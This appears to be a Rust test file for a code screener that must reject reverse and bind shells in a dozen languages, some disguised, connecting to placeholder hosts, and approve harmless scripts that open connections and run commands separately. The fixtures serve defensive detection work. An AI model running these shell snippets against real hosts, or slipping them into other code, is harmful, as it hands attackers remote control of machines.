//! A shell joined to a connection, however it is joined.

use super::all;
use crate::screen::verdict::Verdict;

#[test]
fn a_shell_on_a_connection_is_refused_in_every_language() {
    all(
        Verdict::Reject,
        &[
            (
                "a.pl",
                "#!/usr/bin/perl\nuse strict; use warnings; use Socket;\nunless (fork) {\n    socket(my $s, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n    if (connect($s, sockaddr_in(443, inet_aton('198.51.100.140')))) {\n        open(STDIN, '<&', $s); open(STDOUT, '>&', $s);\n        exec { '/bin/sh' } '[kworker/u8:2]', '-i';\n    }\n}\n",
            ),
            (
                "a.pl",
                "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'stage.test', PeerPort => 443);\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s);\nexec('/bin/sh -i');\n",
            ),
            (
                "a.rb",
                "require 'socket'\ns = TCPSocket.new('stage.test', 4443)\n$stdin.reopen(s); $stdout.reopen(s)\nexec '/bin/sh', '-i'\n",
            ),
            (
                "a.rb",
                "require 'socket'\ns = TCPSocket.open('stage.test', 4443)\nwhile line = s.gets\n  IO.popen(line, 'r') { |io| s.print io.read }\nend\n",
            ),
            (
                "a.php",
                "<?php\n$s = fsockopen('stage.test', 4443);\n$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);\n",
            ),
            (
                "a.php",
                "<?php\n$s = stream_socket_client('tcp://stage.test:4443');\nwhile ($c = fgets($s)) { fwrite($s, shell_exec($c)); }\n",
            ),
            (
                "a.lua",
                "local socket = require('socket')\nlocal c = socket.tcp()\nc:connect('stage.test', 4443)\nwhile true do\n  local line = c:receive()\n  local f = io.popen(line)\n  c:send(f:read('*a'))\nend\n",
            ),
            (
                "a.mjs",
                "import net from 'node:net';\nimport { spawn } from 'node:child_process';\nconst s = net.connect(4443, 'stage.test', () => {\n  const sh = spawn('/bin/sh', ['-i']);\n  s.pipe(sh.stdin); sh.stdout.pipe(s);\n});\n",
            ),
            (
                "a.js",
                "const net = require('net'), cp = require('child_process');\nnet.createServer((c) => { const sh = cp.spawn('/bin/bash'); c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(51877);\n",
            ),
            (
                "a.py",
                "import os, socket, subprocess\ns = socket.socket()\ns.connect(('stage.test', 4443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n",
            ),
            (
                "a.py",
                "import socket, pty, os\ns = socket.create_connection(('stage.test', 4443))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/bash')\n",
            ),
            (
                "a.py",
                "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 51877)); s.listen(1)\nc, _ = s.accept()\nsubprocess.Popen(['/bin/bash'], stdin=c.fileno(), stdout=c.fileno())\n",
            ),
            (
                "a.py",
                "import socket, subprocess\ns = socket.socket()\ns.connect(('stage.test', 4443))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.run(c, shell=True, capture_output=True).stdout)\n",
            ),
            (
                "main.go",
                "package main\nimport (\"net\";\"os/exec\")\nfunc main() {\n\tc, _ := net.Dial(\"tcp\", \"stage.test:4443\")\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\tcmd.Run()\n}\n",
            ),
            (
                "main.go",
                "package main\nimport (\"net\";\"os/exec\")\nfunc main() {\n\tl, err := net.Listen(\"tcp\", \":51877\")\n\tif err != nil {\n\t\treturn\n\t}\n\tfor {\n\t\tc, err := l.Accept()\n\t\tif err != nil {\n\t\t\tcontinue\n\t\t}\n\t\tsh := exec.Command(\"/bin/sh\")\n\t\tsh.Stdin, sh.Stdout, sh.Stderr = c, c, c\n\t\tgo sh.Run()\n\t}\n}\n",
            ),
            (
                "Main.java",
                "public class Main {\n  public static void main(String[] a) throws Exception {\n    Socket s = new Socket(\"stage.test\", 4443);\n    Process p = new ProcessBuilder(\"/bin/sh\").redirectErrorStream(true).start();\n    s.getInputStream().transferTo(p.getOutputStream());\n  }\n}\n",
            ),
            (
                "src/main.rs",
                "use std::net::TcpStream;\nuse std::process::Command;\nfn main() {\n    let s = TcpStream::connect(\"stage.test:4443\").unwrap();\n    Command::new(\"/bin/sh\").arg(\"-i\").stdin(s.try_clone()).spawn();\n}\n",
            ),
            (
                "a.c",
                "#include <sys/socket.h>\nint main() {\n  int s = socket(AF_INET, SOCK_STREAM, 0);\n  sa.sin_addr.s_addr = inet_addr(\"198.51.100.7\");\n  connect(s, (struct sockaddr *)&sa, sizeof(sa));\n  dup2(s, 0); dup2(s, 1);\n  execve(\"/bin/sh\", 0, 0);\n}\n",
            ),
            (
                "a.ps1",
                "$c = New-Object Net.Sockets.TCPClient('stage.test', 4443)\n$s = $c.GetStream()\n$r = New-Object IO.StreamReader($s)\nwhile ($l = $r.ReadLine()) { $o = iex $l | Out-String; $s.Write($o) }\n",
            ),
        ],
    );
}

#[test]
fn connections_and_shells_apart_are_no_remote_shell() {
    all(
        Verdict::AutoApprove,
        &[
            ("wait.sh", "#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\nexec bash\n"),
            (
                "check.py",
                "import socket, subprocess\ns = socket.create_connection(('localhost', 5432))\nsubprocess.run(['bash', 'scripts/run.sh'])\n",
            ),
            (
                "serve.js",
                "const net = require('net'), cp = require('child_process');\nnet.createServer((c) => c.end('ok')).listen(8080);\ncp.spawn('bash', ['build.sh']);\n",
            ),
            (
                "main.go",
                "package main\nimport (\"net\";\"os/exec\")\nfunc main() {\n\tl, _ := net.Listen(\"tcp\", \":8080\")\n\tl.Accept()\n\texec.Command(\"git\", \"status\").Run()\n}\n",
            ),
        ],
    );
}
